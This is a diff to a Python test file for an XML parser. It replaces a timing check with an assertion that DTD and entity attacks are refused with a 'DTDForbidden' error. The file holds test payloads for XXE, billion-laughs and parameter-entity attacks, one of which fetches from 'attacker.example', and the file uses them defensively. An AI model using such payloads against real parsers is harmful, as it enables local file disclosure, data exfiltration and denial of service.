@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import dataclasses
-import time
 
 import pytest
 
@@ -181,10 +180,10 @@ PARAMETER_ENTITY = '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/
     ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
 )
 def test_dtd_and_entity_attacks_are_refused_without_expansion(body: str) -> None:
-    started = time.perf_counter()
     with pytest.raises(MalformedMessage) as caught:
         parse_message(body)
-    assert time.perf_counter() - started < 0.5
+    # Refused at the DTD itself, before any entity could be declared, fetched or expanded.
+    assert "DTDForbidden" in str(caught.value)
     assert "root:" not in str(caught.value)
 
 
